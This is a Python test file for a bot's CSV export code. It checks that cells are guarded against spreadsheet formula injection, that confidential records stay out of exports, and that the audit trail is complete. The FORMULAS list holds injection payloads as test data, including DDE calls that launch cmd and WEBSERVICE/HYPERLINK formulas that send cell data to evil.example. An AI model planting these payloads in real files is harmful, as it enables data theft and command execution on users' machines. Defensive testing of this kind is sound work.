"""Tables that leave the database: nothing in them runs in a spreadsheet, and confidential words stay inside (T12)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest

from bot.domain.ids import Code
from bot.domain.issue import Issue
from bot.domain.reply_clock import ReplyClock
from bot.exports import EXPORTS, Cell, Export, as_csv, guarded
from bot.ports import AuditRecord, UnitOfWork
from storage.memory import MemoryStore
from tests.storage.samples import ENTITIES, NOW

SHANGHAI = ZoneInfo("Asia/Shanghai")

#: what has run in somebody's spreadsheet
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\x00\x00+1",
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\xa0@x",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u200b＝1",
    "﹢1",
    "﹣1",
    "﹫a",
    "﹦1",
    "=\n1",
    "=",
    "-",
    "+86 138 0000 0000",
    "@张三 请回复",
    "-- 更多",
    "= 1",
    "\t",
]


class _Rows:
    """A table of one column."""

    def __init__(self, *cells: Cell) -> None:
        self._cells = cells

    def __call__(self, _: UnitOfWork) -> Iterator[tuple[Cell, ...]]:
        return ((cell,) for cell in self._cells)


async def table(*cells: Cell) -> list[str]:
    """The cells as somebody reads them back."""
    text = await MemoryStore().read(lambda uow: as_csv(Export(("cell",), _Rows(*cells)), uow, zone=SHANGHAI))
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    assert header == ["cell"]
    return [row[0] for row in rows]


async def test_ec_62_no_cell_can_be_taken_for_a_formula() -> None:
    read = await table(*FORMULAS)
    assert len(read) == len(FORMULAS) >= 40
    assert all(cell.startswith("'") for cell in read)
    assert not any("\x00" in cell for cell in read)


@pytest.mark.parametrize(
    "text", ["今天 15:00", "a=b", "1-2", "x@y.example", "'quoted'", '"a","b"', "多\n行", "", "👨‍👩‍👧"]
)
async def test_other_texts_stay_as_they_are(text: str) -> None:
    assert guarded(text) == text
    assert await table(text) == [text]


async def test_figures_times_and_nothing_are_no_texts() -> None:
    at = datetime(2026, 11, 25, 16, 30, 59, 999, tzinfo=UTC)
    assert await table(-5, True, False, None, at) == ["-5", "1", "0", "", "2026-11-26 00:30:59+08:00"]


async def test_confidential_words_stay_inside() -> None:
    clock, _ = ENTITIES["clocks"]
    assert isinstance(clock, ReplyClock)
    store = MemoryStore()
    await store.run(lambda uow: uow.clocks.add(replace(clock, secrecy=1, excerpt="可见的话")))
    await store.run(
        lambda uow: uow.clocks.add(replace(clock, code=Code(f"{clock.code}9"), secrecy=2, excerpt="绝密的话"))
    )
    text = await store.read(lambda uow: as_csv(EXPORTS["clocks"], uow, zone=SHANGHAI))
    assert "可见的话" in text
    assert "绝密的话" not in text


async def test_the_audit_trail_is_exported_whole_and_in_order() -> None:
    store = MemoryStore()
    for number in range(250):
        record = AuditRecord(at=NOW, action="x", ref=f"HF-{number}", facts={"z": "1", "a": "2"})
        await store.run(lambda uow, one=record: uow.audit.append(one))  # type: ignore[misc]  # the default binds it
    text = await store.read(lambda uow: as_csv(EXPORTS["audit"], uow, zone=SHANGHAI))
    _, *rows = csv.reader(io.StringIO(text, newline=""))
    assert [int(row[0]) for row in rows] == list(range(1, 251))
    assert rows[0][-2] == '{"a": "2", "z": "1"}'
    assert len({row[-1] for row in rows}) == 250


async def test_reasons_about_confidential_objects_stay_inside() -> None:
    """2.5: of level 2 nothing leaves in a file; who did what and when does."""
    store = MemoryStore()

    def work(uow: UnitOfWork) -> None:
        for number, secrecy in enumerate((1, 2), start=1):
            issue = next(one for one in ENTITIES["issues"] if isinstance(one, Issue))
            kept = uow.issues.add(replace(issue, code=Code(f"WT-2026-000{number}"), secrecy=secrecy))
            uow.audit.append(
                AuditRecord(
                    at=NOW,
                    action="issue_closed",
                    ref=kept.code,
                    actor="E018",
                    reason=f"级别{secrecy}",
                    facts={"a": "词"},
                )
            )

    await store.run(work)
    rows = list(csv.DictReader(io.StringIO(await store.read(lambda uow: as_csv(EXPORTS["audit"], uow, zone=SHANGHAI)))))
    assert [(row["ref"], row["actor"], row["reason"], row["facts"]) for row in rows] == [
        ("WT-2026-0001", "E018", "级别1", '{"a": "词"}'),
        ("WT-2026-0002", "E018", "", ""),
    ]
